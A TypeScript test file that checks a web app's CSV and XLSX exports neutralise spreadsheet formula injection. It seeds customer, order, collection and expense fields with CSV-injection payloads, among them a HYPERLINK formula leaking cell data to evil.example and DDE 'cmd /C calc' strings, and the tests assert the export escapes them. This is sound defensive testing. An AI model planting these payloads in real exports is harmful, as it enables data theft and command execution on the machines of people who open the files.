import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvRecords } from '../core/csv/csv-records'
import { ENGINES } from '../test-support/test-database'
import { readZip } from '../test-support/read-zip'
import { startTestServer, type TestServer } from '../test-support/test-server'

/**
 * Issue 9: "CSV exports that ran formulas". Every export (customers, orders, collections, expenses)
 * in both formats, with a formula in each text a person writes: in CSV no cell may begin with
 * = + - @ tab or CR (csv-cell.ts prefixes `'`); in XLSX the text is a string cell and no cell holds
 * a formula at all. The API trims texts, so tab and CR reach the database only through it directly.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
]
const WHITESPACE = ['\t=1+1', '\r=1+1']
const TRIGGER = /^[=+\-@\t\r]/
const EXPORTS = ['customers', 'orders', 'collections', 'expenses'] as const

const csvCells = (text: string) => {
  const reader = csvRecords()
  return [...reader.push(text.replace(/^\uFEFF/, '')), ...reader.end()].flatMap((r) => r.cells)
}

describe.each(ENGINES)('exports never run a formula (%s)', (engine) => {
  let server: TestServer
  const as = async (key: 'admin' | 'r1', url: string, payload?: object) => {
    const response = await server.app.inject({
      method: payload ? 'POST' : 'GET',
      url,
      headers: { cookie: await server.cookie(key) },
      ...(payload ? { payload } : {}),
    })
    expect(response.statusCode, response.body.slice(0, 300)).toBeLessThan(300)
    return response
  }

  beforeAll(async () => {
    server = await startTestServer(engine)
    const r1 = server.org.users.r1.id
    for (const [i, formula] of FORMULAS.entries()) {
      const customer = (
        await as('admin', '/api/v1/customers', {
          name: formula,
          companyName: formula,
          address: formula,
          industry: formula,
          region: formula,
          source: formula,
          notes: formula,
          tags: [formula.slice(0, 30)],
          ownerId: r1,
          contacts: [{ name: formula, title: formula }],
        })
      ).json() as { id: string }
      const order = (
        await as('r1', '/api/v1/orders', {
          number: `${formula.slice(0, 40)}${i}`,
          customerId: customer.id,
          orderDate: '2026-06-01',
          lines: [{ product: formula, quantity: 1, unitPrice: 100_00 }],
          note: formula,
        })
      ).json() as { id: string }
      await as('r1', '/api/v1/collections', {
        customerId: customer.id,
        orderId: order.id,
        collectedOn: '2026-06-02',
        amount: 10_00,
        note: formula,
      })
      await as('r1', '/api/v1/expenses', {
        customerId: customer.id,
        expenseDate: '2026-06-03',
        category: 'entertainment',
        amount: 5_00,
        note: formula,
      })
    }
    // Tab and CR first: only a direct write keeps them (the API trims).
    const db = server.database.db
    const [tab, cr] = WHITESPACE as [string, string]
    await db.updateTable('customers').set({ notes: tab, address: cr }).execute()
    await db.updateTable('orders').set({ note: tab }).execute()
    await db.updateTable('collections').set({ note: cr }).execute()
    await db.updateTable('expenses').set({ note: tab }).execute()
  })
  afterAll(async () => server.close())

  it.each(EXPORTS)(
    '%s as CSV: no cell begins with = + - @ tab or CR, and the text is kept after a quote',
    async (what) => {
      const cells = csvCells((await as('admin', `/api/v1/${what}/export.csv?lang=en`)).body)
      expect(cells.filter((c) => TRIGGER.test(c))).toEqual([])
      const neutralised = cells.filter((c) => c.startsWith("'") && TRIGGER.test(c.slice(1)))
      // Every export shows at least the note (or the customer's name) of each row.
      expect(neutralised.length).toBeGreaterThanOrEqual(FORMULAS.length)
      for (const cell of neutralised)
        expect([...FORMULAS, ...WHITESPACE].some((f) => cell.slice(1).startsWith(f.slice(0, 6)))).toBe(true)
    },
  )

  it.each(EXPORTS)('%s as XLSX: the texts are string cells and no cell is a formula', async (what) => {
    const response = await as('admin', `/api/v1/${what}/export.xlsx?lang=en`)
    const parts = readZip(new Uint8Array(response.rawPayload))
    const sheets = [...parts.entries()].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
    expect(sheets.length).toBe(1)
    const xml = (sheets[0] as [string, Buffer])[1].toString('utf8')
    expect(xml).not.toMatch(/<f[ >]/)
    // A text cell (t="str" with its value, no <f>): Excel and LibreOffice show it as it is.
    const texts = [...xml.matchAll(/<c [^>]*t="str"[^>]*><v>([^<]*)<\/v><\/c>/g)].map((m) => m[1] ?? '')
    const formulaLike = texts.filter((t) => /^(=|\+|-|@|\t)/.test(t))
    expect(formulaLike.length).toBeGreaterThanOrEqual(FORMULAS.length)
  })
})
